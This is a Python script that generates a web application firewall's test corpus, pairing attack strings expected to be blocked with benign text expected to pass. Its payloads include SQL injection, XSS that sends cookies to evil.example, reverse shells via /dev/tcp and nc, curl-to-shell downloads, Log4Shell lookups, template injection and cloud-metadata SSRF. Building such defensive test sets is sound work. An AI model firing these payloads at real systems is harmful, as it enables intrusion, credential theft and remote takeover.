# Writes waf_corpus.toml (kept in the repo; this script documents how it was made).
import json
cases = []
def c(family, expect, place, value, name="q", note=""):
    cases.append(dict(family=family, expect=expect, place=place, value=value, name=name, note=note))

A, P = "block", "pass"
# ---------------- SQL injection
for v in ["1' OR '1'='1", "' or 1=1--", "admin'--", "admin' #", "1 OR 1=1", "1 AND 1=1",
          "1 UNION SELECT username, password FROM users", "-1 UNION ALL SELECT NULL,NULL,NULL--",
          "x' UNION/**/SELECT 1,2,3--", "1;DROP TABLE users", "'; EXEC xp_cmdshell('dir')--",
          "1 AND SLEEP(5)", "1' AND BENCHMARK(5000000,MD5(1))--", "'; WAITFOR DELAY '0:0:5'--",
          "' AND extractvalue(1,concat(0x7e,version()))--", "1 AND 1=(SELECT COUNT(*) FROM information_schema.tables)",
          "\" or \"\"=\"", "') or ('a'='a", "1' and '1'='1", "x' or 1=1 limit 1 -- -",
          "1'/*!50000union*/ /*!50000select*/ 1,2--", "admin' OR 1=1#", "1 or sleep(5)#",
          "' UNION SELECT load_file('/etc/passwd')--", "1); DELETE FROM orders WHERE (1=1"]:
    c("sqli", A, "query", v)
for place in ["form", "json", "multipart", "cookie", "header:user-agent", "header:referer"]:
    c("sqli", A, place, "1' OR '1'='1' -- ")
    c("sqli", A, place, "1 UNION SELECT password FROM users")
c("sqli", A, "uri", "/search?q=%2527%2520OR%2520%25271%2527%253D%25271", note="double encoding")
c("sqli", A, "query", "1' oR '1'='1", note="mixed case")
c("sqli", A, "query", "1'%0aunion%0aselect%0a1,2--", note="newline whitespace")
c("sqli", A, "query", "1' UnIoN/**/SeLeCt 1--", note="comments and case")
c("sqli", A, "query", "1\u00a0union\u00a0select 1,2", note="non-breaking spaces")
c("sqli", A, "query", "%u0027 or 1=1--", note="unicode URL encoding")
c("sqli", A, "query", "&#39; or &#39;1&#39;=&#39;1", note="HTML entities")
c("sqli", A, "json_raw", '{"q": "1\\u0027 OR \\u00271\\u0027=\\u00271"}', note="JSON unicode escapes")
# ---------------- XSS
for v in ["<script>alert(1)</script>", "<ScRiPt>alert(document.cookie)</sCrIpT>", "<img src=x onerror=alert(1)>",
          "<svg/onload=alert(1)>", "\"><img src=x onerror=alert(1)>", "\" onmouseover=\"alert(1)",
          "' autofocus onfocus='alert(1)", "javascript:alert(1)", "<a href=\"javascript:alert(1)\">x</a>",
          "<iframe src=\"data:text/html,<script>alert(1)</script>\">", "<body onload=alert(1)>",
          "<details open ontoggle=alert(1)>", "<div style=\"width: expression(alert(1))\">",
          "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>", "<object data=\"javascript:alert(1)\">",
          "<embed src=javascript:alert(1)>", "<a href=\"jav&#x09;ascript:alert(1)\">x</a>",
          "<img src=x:alert(alt) onerror=eval(src) alt=0>", "+ADw-script+AD4-alert(1)+ADw-/script+AD4-",
          "<svg><animate onbegin=alert(1) attributeName=x>", "<input autofocus onfocus=alert(1)>",
          "<script>document.location='http://evil.example/?c='+document.cookie</script>",
          "<img src=\"x\" onerror=\"eval(atob('YWxlcnQoMSk='))\">"]:
    c("xss", A, "query", v)
for place in ["form", "json", "multipart", "cookie", "header:referer"]:
    c("xss", A, place, "<script>alert(1)</script>")
    c("xss", A, place, "<img src=x onerror=alert(1)>")
c("xss", A, "uri", "/page?q=%253Cscript%253Ealert(1)%253C%252Fscript%253E", note="double encoding")
c("xss", A, "query", "%u003cscript%u003ealert(1)%u003c/script%u003e", note="unicode URL encoding")
c("xss", A, "query", "&lt;script&gt;alert(1)&lt;/script&gt;", note="HTML entities")
# ---------------- path traversal / LFI
c("lfi", A, "uri", "/static/../../../etc/passwd")
c("lfi", A, "uri", "/static/%2e%2e/%2e%2e/%2e%2e/etc/passwd")
c("lfi", A, "uri", "/static/..%2f..%2f..%2fetc%2fpasswd")
c("lfi", A, "uri", "/static/%252e%252e%252f%252e%252e%252fetc%252fpasswd", note="double encoding")
c("lfi", A, "uri", "/static/..%c0%af..%c0%afetc/passwd", note="overlong UTF-8")
c("lfi", A, "uri", "/download?file=..\\..\\..\\windows\\win.ini")
c("lfi", A, "query", "../../../../etc/passwd", name="file")
c("lfi", A, "query", "....//....//....//etc/passwd", name="file")
c("lfi", A, "query", "/etc/shadow", name="file")
c("lfi", A, "query", "/proc/self/environ", name="page")
c("lfi", A, "query", "C:\\Windows\\System32\\drivers\\etc\\hosts", name="path")
c("lfi", A, "form", "../../../../../../etc/passwd%00.png", name="img")
c("lfi", A, "json", "../../../../etc/passwd", name="template")
c("lfi", A, "path", "/.env")
c("lfi", A, "path", "/.git/config")
c("lfi", A, "path", "/backup/db.sql")
c("lfi", A, "query", "/var/www/.htpasswd", name="f")
# ---------------- RFI
c("rfi", A, "query", "http://203.0.113.7/shell.txt", name="page")
c("rfi", A, "query", "https://evil.example/shell.txt?", name="page")
c("rfi", A, "query", "php://filter/convert.base64-encode/resource=index.php", name="page")
c("rfi", A, "query", "phar://uploads/avatar.jpg/shell", name="page")
c("rfi", A, "query", "expect://id", name="page")
c("rfi", A, "query", "file:///etc/passwd", name="url")
# ---------------- command injection
for v in ["; cat /etc/passwd", "| id", "&& whoami", "`wget http://evil.example/x.sh`", "$(curl http://evil.example/x|sh)",
          "127.0.0.1; ls -la", "x || ping -c 10 127.0.0.1", "; /bin/bash -i >& /dev/tcp/10.0.0.1/4444 0>&1",
          ";${IFS}cat${IFS}/etc/passwd", "| nc -e /bin/sh 10.0.0.1 4444", "1; python -c 'import os'",
          "& cmd.exe /c dir", "| powershell -enc SQBFAFgA", "& net user admin P@ss /add", "; busybox wget http://x",
          "() { :; }; /bin/bash -c 'cat /etc/passwd'", "a;c\\at /et\\c/pas\\swd", "|certutil -urlcache -f http://x/a.exe a.exe"]:
    c("rce", A, "query", v, name="host")
c("rce", A, "header:user-agent", "() { :; }; echo; /bin/cat /etc/passwd", note="shellshock")
c("rce", A, "form", "8.8.8.8; wget http://evil.example/bot -O /tmp/bot", name="ip")
c("rce", A, "json", "$(whoami)", name="name")
# ---------------- PHP
c("php", A, "query", "<?php system($_GET['c']); ?>", name="code")
c("php", A, "form", "<?= `id` ?>", name="comment")
c("php", A, "query", "system('id')", name="cmd")
c("php", A, "query", "eval(base64_decode('ZWNobyAxOw=='))", name="x")
c("php", A, "cookie", "O:8:\"stdClass\":1:{s:4:\"test\";s:1:\"x\";}", name="prefs")
c("php", A, "query", "$_SERVER['HTTP_HOST']", name="x")
c("php", A, "file", "shell.php", name="upload")
c("php", A, "file", "avatar.php.jpg", name="upload")
# ---------------- Java
for place in ["query", "header:user-agent", "header:x-api-version", "cookie", "json", "form"]:
    c("java", A, place, "${jndi:ldap://evil.example/a}")
c("java", A, "header:user-agent", "${${lower:j}ndi:${lower:l}dap://evil.example/a}", note="nested lookups")
c("java", A, "header:referer", "${${::-j}${::-n}${::-d}${::-i}:rmi://evil.example/a}", note="nested lookups")
c("java", A, "query", "%24%7Bjndi%3Adns%3A%2F%2Fevil.example%7D", note="encoded")
c("java", A, "cookie", "rO0ABXNyABFqYXZhLnV0aWwuSGFzaE1hcA==", name="state")
c("java", A, "query", "java.lang.Runtime.getRuntime().exec('id')", name="x")
c("java", A, "query", "%{(#_memberAccess['allowStaticMethodAccess']=true)}", name="redirect")
c("java", A, "form", "tomcatwar", name="class.module.classLoader.resources.context.parent.pipeline.first.pattern")
# ---------------- Node.js
c("node", A, "query", "1", name="__proto__[isAdmin]")
c("node", A, "json_key", "{\"__proto__\": {\"isAdmin\": true}}")
c("node", A, "query", "1", name="constructor[prototype][admin]")
c("node", A, "json", "require('child_process').exec('id')", name="code")
c("node", A, "query", "this.constructor.constructor('return process')().mainModule", name="x")
c("node", A, "cookie", "_$$ND_FUNC$$_function(){require('child_process').exec('id')}()", name="profile")
# ---------------- SSTI
for v in ["{{7*7}}", "{{config.__class__.__init__.__globals__['os'].popen('id').read()}}", "${7*7}", "#{7*7}",
          "{{''.__class__.__mro__[1].__subclasses__()}}", "<#assign ex=\"freemarker.template.utility.Execute\"?new()>${ex(\"id\")}",
          "${T(java.lang.Runtime).getRuntime().exec('id')}", "#set($x = $class.inspect(\"java.lang.Runtime\"))",
          "{{constructor.constructor('return process')()}}", "*{T(java.lang.Runtime).getRuntime()}"]:
    c("ssti", A, "query", v, name="name")
# ---------------- SSRF
for v in ["http://169.254.169.254/latest/meta-data/iam/security-credentials/", "http://metadata.google.internal/computeMetadata/v1/",
          "http://[fd00:ec2::254]/latest/meta-data/", "http://2852039166/latest/meta-data/", "http://0xA9FEA9FE/",
          "http://100.100.100.200/latest/meta-data/", "gopher://127.0.0.1:6379/_FLUSHALL", "dict://127.0.0.1:11211/stat",
          "http://169.254.170.2/v2/credentials"]:
    c("ssrf", A, "query", v, name="url")
c("ssrf", A, "json", "http://169.254.169.254/latest/user-data", name="webhook")
# ---------------- CRLF / header injection
c("crlf", A, "query", "en\r\nSet-Cookie: admin=1", name="lang")
c("crlf", A, "uri", "/redirect?to=%0d%0aLocation:%20http://evil.example")
c("crlf", A, "uri", "/%0d%0aSet-Cookie:%20a=b")
c("crlf", A, "query", "x\nHTTP/1.1 200 OK", name="next")
c("crlf", A, "uri", "/page?x=%250d%250aSet-Cookie:a=b", note="double encoding")
# ---------------- protocol anomalies and scanners
c("protocol", A, "method", "TRACE")
c("protocol", A, "method", "PROPFIND")
c("protocol", A, "query", "a\x00b", name="x")
c("protocol", A, "raw", "GET /x HTTP/1.1\r\nHost: localhost\r\nRange: bytes=0-1,1-2,2-3,3-4,4-5,5-6,6-7,7-8,8-9,9-10,10-11,11-12\r\n\r\n")
c("protocol", A, "json_raw", "{\"a\": ")
c("scanner", A, "header:user-agent", "sqlmap/1.7.2#stable (https://sqlmap.org)")
c("scanner", A, "header:user-agent", "Mozilla/5.00 (Nikto/2.1.6) (Evasions:None) (Test:000003)")
c("scanner", A, "header:user-agent", "Mozilla/5.0 (compatible; Nmap Scripting Engine; https://nmap.org/book/nse.html)")
c("scanner", A, "header:user-agent", "Fuzz Faster U Fool v2.0.0 ffuf")
c("scanner", A, "header:user-agent", "Nuclei - Open-source project (github.com/projectdiscovery/nuclei)")

# ---------------- LDAP injection
for v in ["*)(uid=*))(|(uid=*", "admin)(&)", "*)(|(password=*))", "admin*)((|userPassword=*)", "*)(objectClass=*",
          "x)(|(cn=*)", "*()|&'", "admin)(!(&(1=0", "*)(&(objectClass=user)(uid=*", ")(cn=*))(|(cn=*", "*))%00"]:
    c("ldap", A, "query", v, name="user")
c("ldap", A, "form", "jdoe)(|(mail=*)", name="username")
c("ldap", A, "json", "*)(uid=*))(|(uid=*", name="login")
# ---------------- mail command injection (IMAP, SMTP, POP3)
for v in ["INBOX\r\nV100 CAPABILITY", "x\r\nV101 FETCH 4791:* (BODY[HEADER])", "\"INBOX\" A003 SELECT \"Drafts\"",
          "a@b.example\r\nRCPT TO:<victim@example.com>\r\nDATA", "x\r\nMAIL FROM:<spam@evil.example>",
          "1\r\nUSER admin\r\nPASS secret", "1\r\nRETR 1", "test\r\nA004 LOGIN admin admin", "x\r\nEHLO evil.example",
          "y\r\nA1 LIST \"\" *", "z\r\nDELE 1", "q\r\nA2 UID FETCH 1:* FLAGS"]:
    c("mail", A, "query", v, name="mailbox")
c("mail", A, "form", "news@example.com\r\nBcc: everyone@example.com\r\nRCPT TO:<x@example.com>", name="email")
# ---------------- server-side / edge-side includes
for v in ["<!--#exec cmd=\"ls\" -->", "<!--#include virtual=\"/etc/passwd\" -->", "<!--#echo var=\"DOCUMENT_ROOT\" -->",
          "<!--#printenv -->", "<!--#config timefmt=\"%A\" --><!--#exec cmd=\"id\"-->", "<esi:include src=\"http://evil.example/\"/>",
          "<!-- #exec cmd=\"cat /etc/passwd\" -->"]:
    c("ssi", A, "query", v, name="comment")
c("ssi", A, "form", "<!--#include file=\"../../etc/passwd\"-->", name="message")
c("ssi", A, "header:x-comment", "<!--#exec cmd=\"id\"-->")
# ---------------- NoSQL injection
c("nosql", A, "query", "x", name="username[$ne]")
c("nosql", A, "query", "", name="password[$gt]")
c("nosql", A, "query", "^adm", name="user[$regex]")
c("nosql", A, "query", "admin", name="user[$in][]")
c("nosql", A, "query", "sleep(5000)", name="$where")
c("nosql", A, "json_raw", "{\"username\": {\"$ne\": null}, \"password\": {\"$ne\": null}}")
c("nosql", A, "json_raw", "{\"username\": \"admin\", \"password\": {\"$gt\": \"\"}}")
c("nosql", A, "json_raw", "{\"$where\": \"this.password.length > 0\"}")
c("nosql", A, "json_raw", "{\"filter\": {\"$or\": [{\"a\": 1}, {\"b\": {\"$exists\": true}}]}}")
for v in ["{\"$gt\": \"\"}", "{\"$ne\": null}", "'; return true; var foo='", "' || this.password.match(/^a/) || '",
          "1'; return 1==1; var x='1", "db.users.find()", "'; while(true){}; var x='"]:
    c("nosql", A, "query", v, name="user")
# ---------------- XML: XXE, entity expansion, XInclude, XML and XPath injection
for v in ['<?xml version="1.0"?><!DOCTYPE foo [<!ENTITY xxe SYSTEM "file:///etc/passwd">]><foo>&xxe;</foo>',
          '<!DOCTYPE foo [<!ENTITY % xxe SYSTEM "http://evil.example/evil.dtd"> %xxe;]><foo/>',
          '<?xml version="1.0"?><!DOCTYPE lolz [<!ENTITY lol "lol"><!ENTITY lol2 "&lol;&lol;&lol;&lol;">]><lolz>&lol2;</lolz>',
          '<foo xmlns:xi="http://www.w3.org/2001/XInclude"><xi:include parse="text" href="file:///etc/passwd"/></foo>',
          '<?xml version="1.0"?><!DOCTYPE data SYSTEM "http://evil.example/x.dtd"><data>1</data>',
          '<soap:Envelope xmlns:soap="http://schemas.xmlsoap.org/soap/envelope/"><soap:Body><!DOCTYPE a [<!ENTITY b SYSTEM "file:///c:/windows/win.ini">]><a>&b;</a></soap:Body></soap:Envelope>']:
    c("xxe", A, "xml_raw", v)
c("xxe", A, "query", '<!DOCTYPE x [<!ENTITY y SYSTEM "file:///etc/hosts">]><x>&y;</x>', name="xml")
c("xxe", A, "form", '<?xml version="1.0"?><!DOCTYPE r [<!ENTITY % p SYSTEM "http://evil.example/p.dtd">%p;]><r/>', name="data")
for v in ["</name><admin>true</admin><name>", "x</user><role>admin</role><user>y"]:
    # In a value that the application pastes into an XML document (inside an XML body
    # the injected tags are indistinguishable from the document's own).
    c("xml", A, "query", v, name="name")
    c("xml", A, "json", v, name="name")
for v in ["' or name()='admin' or 'a'='b", "') or count(/*)=1 or ('a'='b", "1 or 1=1] | //*", "'] | //user/*[contains(*,'a')] | //*['",
          "x' or string-length(name(/*))>0 or 'a'='b", "' or position()=1 or '", "admin' or starts-with(name(),'a') or 'x'='y"]:
    c("xpath", A, "query", v, name="user")
c("xpath", A, "xml", "' or count(//user)>0 or 'a'='b", name="username")
# ---------------- more template engines
for v in ["<%= 7*7 %>", "<%= system('id') %>", "<%= `id` %>", "{php}echo `id`;{/php}", "{system('id')}",
          "{{_self.env.registerUndefinedFilterCallback(\"exec\")}}", "@(7*7)", "${{7*7}}", "{{['id']|filter('system')}}",
          "__${T(java.lang.Runtime).getRuntime().exec('id')}__::.x", "{$smarty.version}", "<%= File.open('/etc/passwd').read %>",
          "#{7*7}", "[[${7*7}]]", "{{7*'7'}}", "<#assign x=\"freemarker.template.utility.Execute\"?new()>${x(\"id\")}",
          "${self.module.cache.util.os.system(\"id\")}", "<% import os %>${os.popen('id').read()}"]:
    c("ssti", A, "query", v, name="tpl")
# ---------------- repeated values (the engine evaluates a repeated kind+name+value once)
c("sqli", A, "json_raw", '{"items": [{"note": "leave at the door please"}, {"note": "leave at the door please"}, {"note": "1\' OR \'1\'=\'1\' -- "}]}')
c("xss", A, "json_raw", '{"items": [{"note": "<img src=x onerror=alert(1)>"}, {"note": "<img src=x onerror=alert(1)>"}]}')
# ---------------- fullwidth forms (NFKC-normalizing backends read them as ASCII)
c("xss", A, "query", "＜script＞alert(1)＜/script＞", note="fullwidth brackets")
c("sqli", A, "json", "1＇ OR ＇1＇＝＇1", note="fullwidth quotes")
c("benign", P, "query", "ＡＢＣ株式会社　東京都", name="company")
# ---------------- a form body sent without its type (a backend may parse it anyway)
c("sqli", A, "raw", "POST /post HTTP/1.1\r\nHost: localhost\r\nContent-Length: 15\r\n\r\nvar=1234 OR 1=1")
c("xss", A, "raw", "POST /post HTTP/1.1\r\nHost: localhost\r\nContent-Type: text/plain\r\n\r\ncomment=%3Cscript%3Ealert(1)%3C%2Fscript%3E")
c("benign", P, "raw", "POST /notes HTTP/1.1\r\nHost: localhost\r\nContent-Type: text/plain\r\n\r\nShopping list: eggs, milk; bread (2 loaves) -- and don't forget the cat's food!")
c("benign", P, "raw", "POST /notes HTTP/1.1\r\nHost: localhost\r\nContent-Type: text/plain\r\n\r\nnote=It's a \"great\" product -- really; 5 < 10")
# ---------------- payloads with slashes that span path segments
c("sqli", A, "uri", "/products/1%20union/**/select/**/password/**/from/**/users")
c("xss", A, "uri", "/page/%3Cscript%3Ealert(document.cookie)%3C/script%3E")
c("xss", A, "uri", "/search/%3Cimg%20src=x%20onerror=alert(1)%3E/results")
c("benign", P, "uri", "/docs/api/v2/users/%7Bid%7D/orders")
c("benign", P, "uri", "/wiki/C%2B%2B_(programming_language)/history")
c("benign", P, "uri", "/files/report%20(final)%20v2.pdf")
# ---------------- the usual attacks in placements parsers used to miss
core = {"sqli": "1' OR '1'='1' -- ", "xss": "<img src=x onerror=alert(1)>", "rce": "; cat /etc/passwd",
        "lfi": "../../../../etc/passwd", "ssti": "{{config.__class__.__init__.__globals__['os'].popen('id').read()}}",
        "java": "${jndi:ldap://evil.example/a}", "sqli2": "1 UNION SELECT password FROM users",
        "xss2": "<script>alert(document.cookie)</script>", "rce2": "$(curl http://evil.example/x|sh)"}
for fam, v in core.items():
    fam = fam.rstrip("2")
    for place in ["path_segment", "header:x-custom-header", "header:origin", "header:referer", "header:user-agent",
                  "json_key", "xml", "soap", "xml_attr", "graphql", "base64_query", "base64_json", "base64_header", "jwt"]:
        if place.startswith("header:") and any(ch in v for ch in "\r\n"):
            continue
        c(fam, A, place, v, name="id" if place != "graphql" else "q")

# ---------------- encodings a backend undoes: JavaScript escapes, percent-encoding nested
for fam, v in core.items():
    fam = fam.rstrip("2")
    for place in ["jsesc_query", "jsesc_header", "nested_url_query"]:
        c(fam, A, place, v, name="id")
# ---------------- short commands after a separator (Unix and Windows)
for v in ["; sleep 10", "& ping -n 30 127.0.0.1 &", "`ping 127.0.0.1`", "| dir", "; dir C:\\", "&& systeminfo",
          "; net view", "| net user hacker P4ss /add", "; netsh firewall set opmode disable", "$(`dir`)", "& id",
          "a);id", "|| whoami"]:
    c("rce", A, "query", v, name="host")
c("php", A, "query", ";${@print(md5(31337))};", name="x")
for v in ["/???/??t /???/p??s??", "cat /etc/pas[s]wd", "/bi[n]/bash -c id", "x;/u?r/b?n/w?oami"]:
    c("rce", A, "query", v, name="file")
for v in ["/home/*/public_html", "src/**/*.rs", "Is it /path?x=1 or /other?y=2", "see /docs/faq?lang=en",
          "use /var/log/*.log", "/api/v1/items[0]/name"]:
    c("benign", P, "query", v, name="note")
c("sqli", A, "query", "or 1=1--", name="user")
c("sqli", A, "query", "') or true--", name="user")
c("sqli", A, "query", "')) or (('x'))=(('x", name="user")
c("nosql", A, "query", "[$ne]=1", name="user")
c("nosql", A, "json", "' || 1==1", name="user")
c("nosql", A, "query", "', $or: [ {}, { 'a':'a", name="user")
c("ssti", A, "query", "{{self}}", name="name")
c("ssti", A, "query", "{{ request }}", name="name")
c("ssti", A, "query", "{{dump(app)}}", name="name")
c("ssti", A, "query", "{{'a'.toUpperCase()}}", name="name")
c("ssti", A, "query", "{% for k, v in config.items() %}{{ k }}{% endfor %}", name="name")
c("ssti", A, "query", "@(7+7)", name="name")
c("xss", A, "query", "alert(1)>//", name="q")
c("xss", A, "query", "}alert(/x/);{//", name="q")
for v in ["Tom & Jerry", "Terms & conditions apply", "Research & development; net income rose 5%",
          "The `dir` command lists files", "Work hard; sleep 8 hours a night", "Please confirm (by Friday)",
          "confirm (yes/no)", "We will ping you later", "or true love", "and not 5 minutes late",
          "Hello {{ name }}, your order {{ order.id }} shipped", "{{ product.title | upcase }}",
          "{% if user %}Hi{% endif %}", "price || 0", "A || B", "x = a || b", "$or is a MongoDB operator",
          "Net view of the market", "ID & passport", "Q&A; who is next?"]:
    for place in ["query", "json"]:
        c("benign", P, place, v, name="note")

# ================= benign real-world text, in every placement
benign = [
    "O'Reilly", "Rock 'n' roll", "It's a \"great\" product -- really!",
    "I'm selecting the union rep from our group", "Please select your size from the list below.",
    "Drop me a line; I will answer", "5 < 10 and 10 > 5", "I <3 this product", "Use <b>bold</b> and <i>italics</i>",
    "Price: $5-$10 (approx.)", "john.doe+news@example.com", "https://www.example.com/path?x=1&y=2",
    "São Paulo, Brasil", "Zürich Hauptbahnhof", "Łódź, ul. Piotrkowska 1/2", "東京都渋谷区", "Привет, мир!",
    "1600 Amphitheatre Pkwy, Mountain View, CA 94043", "Flat 3/2, 10 Downing St.", "c/o Müller & Söhne GmbH",
    "We're at 50% -- almost done", "The union selected a new leader; the vote was 5-3.",
    "I ordered 2 items or 3 items, not sure", "if (a && b) { return a || b; }", "SELECT is a word in English",
    "for (let i = 0; i < n; i++) { sum += i; }", "const x = arr.filter(v => v > 2);",
    "Use `git log --oneline` to see history", "Call me at +1 (555) 123-4567", "Meeting 10:30-11:00; room 4B",
    "Dear Sir/Madam, I would like to order", "semicolons; commas, and dashes - all fine",
    "The script was great, the acting too", "javascript: the good parts is a book", "Online shopping is fun",
    "My password hint is: first pet", "He said: 'select * from life' jokingly", "50% off! Today only",
    "C:\\Users\\Public\\Documents", "path/to/file.txt", "../relative link in docs", "Mr. & Mrs. Smith",
    "He said \"one more\" = enough", "email me: a@b.co; or call", "x = 'on'", "Tom & Jerry; cat and mouse",
    "Order #12345 shipped", "Version 2.0.1-beta", "sleep well, see you tomorrow", "import os and sys modules",
    "true", "null", "-42.5e3", "2024-01-01T10:00:00Z", "ZXhhbXBsZSBiYXNlNjQgdGV4dA==",
    "eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiIxMjM0In0.dozjgNryP4J3jVmNHl0w5N_XgL0n3I9PlFUP0THsR8U",
    "I'll be there at 5 or 6", "select * from the menu please", "Cat food; dog food", "Where are my keys?",
    "100% cotton, made in U.S.A.", "Don't stop; believe", "It's 1 or 2 o'clock", "A+B=C", "a=b&c=d",
]
places = ["query", "form", "json", "multipart", "header:x-comment", "cookie"]
for i, v in enumerate(benign):
    place = places[i % len(places)]
    if place == "cookie" and any(ch in v for ch in ";,\" \\"):
        place = "json"
    if place.startswith("header") and any(ord(ch) > 126 for ch in v):
        place = "form"
    c("benign", P, place, v, name=["comment", "name", "address", "q", "message", "note"][i % 6])
    # every benign text also in a query argument and a JSON field
    if place != "query":
        c("benign", P, "query", v, name="text")
    if place != "json":
        c("benign", P, "json", v, name="text")
for ua in ["Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/120.0.0.0 Safari/537.36",
           "Mozilla/5.0 (iPhone; CPU iPhone OS 17_1 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/17.1 Mobile/15E148 Safari/604.1",
           "curl/8.5.0", "python-requests/2.31.0", "Googlebot/2.1 (+http://www.google.com/bot.html)"]:
    c("benign", P, "header:user-agent", ua)
for uri in ["/", "/static/app.3f2a1b.js", "/api/v1/users/42?fields=name,email&sort=-created", "/search?q=caf%C3%A9&page=2",
            "/products/shoes-size-42?color=red&color=blue", "/docs/readme.md", "/images/logo.png?v=3",
            "/login?next=%2Faccount%2Fsettings", "/calendar?from=2024-01-01&to=2024-12-31", "/download/report-2024.pdf"]:
    c("benign", P, "uri", uri)
c("benign", P, "json_raw", json.dumps({"user": {"name": "Anne-Marie O'Neil", "address": {"street": "12 Rue de l'Église", "city": "Montréal"}},
     "items": [{"sku": "A-1", "qty": 2, "note": "gift wrap, please; thanks!"}], "comment": "Loved it -- will buy again <3",
     "code": "if (x < 10 && y > 2) { print('ok'); }", "tags": ["summer", "sale"], "price": 19.99, "active": True}))
benign2 = ["Smith (CEO) (retired)", "(a) first, (b) second", "f(x) = (x+1)*(x-1)", "Use the filter (cn=John Smith) in the directory",
           "Please RCPT the parcel", "Hi team,\nplease see the list below\nThanks, Ann", "Top 10 tips\nfor better sleep",
           "Price: $5-$10, or $ne-ish deals", "<!-- a comment in my HTML snippet -->", "a/b/c and x/y", "see [1] and [2]",
           "Hello #{name}, welcome", "<%= link_to 'Home', root_path %>", "{{ user.name }} ordered {{ count }} items",
           "He said 'hi' and not (really)", "Ruby: \"Hello #{name}\".upcase", "A4 paper list", "const re = /a|b/;",
           "Dear John,\nTo: all staff\nSubject: party\nBest", "SELECT * FROM table is SQL", "Use $regex carefully in docs"]
for i, v in enumerate(benign2):
    for place in ["query", "json", "form"]:
        c("benign", P, place, v, name="message")
    if "\n" not in v:
        c("benign", P, "xml", v, name="comment")
        c("benign", P, "graphql", v, name="q")
        c("benign", P, "base64_query", v, name="data")
for v in benign[:40]:
    if all(32 <= ord(ch) < 127 for ch in v):
        c("benign", P, "header:x-comment", v)
        c("benign", P, "base64_json", v, name="blob")
    c("benign", P, "xml", v, name="note")
    c("benign", P, "path_segment", v, name="slug")
for v in ["iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNkYPhfDwAChwGA60e6kgAAAABJRU5ErkJggg==",
          "q2Xk9Fz3Lw8Rb7TnVc1Yp0Qs", "MIIBIjANBgkqhkiG9w0BAQEFAAOCAQ8AMIIBCgKCAQEAu1SU1LfVLPHCozMxH2Mo",
          "eyJhbGciOiJSUzI1NiIsImtpZCI6IjEifQ.eyJzdWIiOiJ1c2VyLTQyIiwibmFtZSI6IkFubmUgTydOZWlsIiwiaWF0IjoxNzAwMDAwMDAwfQ.c2lnbmF0dXJlLWJ5dGVz",
          "dGhlIHF1aWNrIGJyb3duIGZveCBqdW1wcyBvdmVyIHRoZSBsYXp5IGRvZw==", "AAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAA"]:
    c("benign", P, "query", v, name="token")
    c("benign", P, "header:x-upload-token", v)
for q in ["query { product(id: \"42\") { name price reviews(first: 5) { text } } }",
          "mutation { addReview(product: \"42\", text: \"It's great -- 5/5, would buy again!\") { id } }",
          "query Search($q: String!) { search(q: $q) { ... on Book { title } } }"]:
    c("benign", P, "graphql_raw", q)
c("benign", P, "xml_raw", '<?xml version="1.0" encoding="UTF-8"?><soap:Envelope xmlns:soap="http://schemas.xmlsoap.org/soap/envelope/"><soap:Body><m:GetPrice xmlns:m="https://www.example.org/stock"><m:Item>Apples &amp; Pears</m:Item><m:Note>O\'Neil said "5 &lt; 10"</m:Note></m:GetPrice></soap:Body></soap:Envelope>')
for h, v in [("origin", "https://shop.example.com"), ("referer", "https://www.example.com/search?q=shoes&page=2"),
             ("x-requested-with", "XMLHttpRequest"), ("x-correlation-id", "7f1c2e9a-4b8d-4c1e-9f3a-2b6d8e0a1c5f"),
             ("x-client-version", "web/2024.12.1 (build 5521)")]:
    c("benign", P, "header:" + h, v)
c("benign", P, "file", "holiday photo (1).jpg", name="photo")
c("benign", P, "file", "report_2024.pdf", name="doc")
c("benign", P, "cookie", "GA1.2.1234567890.1700000000", name="_ga")
c("benign", P, "cookie", "dark", name="theme")
c("benign", P, "method", "PATCH")
c("benign", P, "method", "OPTIONS")

def s(v):
    return json.dumps(v, ensure_ascii=False)
out = ["# The WAF's table-driven corpus: attacks (expect = \"block\") and benign real-world text",
       "# (expect = \"pass\") in every placement. Generated by gen_corpus.py; read by tests/it/waf.rs.",
       "# place: query | form | json | json_key | json_raw | multipart | file | cookie | header:NAME |",
       "#        path | uri | method | raw | path_segment | xml | xml_attr | soap | xml_raw | graphql |",
       "#        graphql_raw | base64_query | base64_json | base64_header | jwt | jsesc_query |",
       "#        jsesc_header | nested_url_query", ""]
for x in cases:
    out.append("[[case]]")
    for k in ["family", "expect", "place", "name", "value", "note"]:
        if k == "note" and not x[k]:
            continue
        if k == "name" and x[k] == "q":
            continue
        out.append(f"{k} = {s(x[k])}")
    out.append("")
open("waf_corpus.toml", "w").write("\n".join(out))
print(len(cases), "cases")
